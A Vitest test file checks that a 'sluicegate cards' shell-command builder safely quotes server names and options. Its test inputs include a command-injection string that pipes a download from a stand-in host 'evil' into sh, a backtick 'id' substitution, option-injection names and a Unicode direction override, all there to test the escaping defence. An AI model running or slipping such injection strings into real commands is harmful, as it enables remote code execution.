import { expect, it } from "vitest";
import { cardCommand } from "./card-command.ts";

it.each([
  ["github", undefined, "sluicegate cards github"],
  ["github", "--forget", "sluicegate cards github --forget"],
  ["@acme/app", "--review", "sluicegate cards @acme/app --review"],
  ["x;curl${IFS}evil|sh", undefined, "sluicegate cards -- 'x;curl${IFS}evil|sh'"],
  ["it's`id`", "--forget", "sluicegate cards --forget -- 'it'\\''s`id`'"],
  ["--yes-reads", undefined, "sluicegate cards -- --yes-reads"],
  ["--accept", "--forget", "sluicegate cards --forget -- --accept"],
  ["a\u202eb", undefined, "sluicegate cards -- 'a\\u{202e}b'"],
] as const)("the card of %s with %s is one word of a shell: %s", (server, option, command) => {
  expect(cardCommand(server, option)).toBe(command);
});
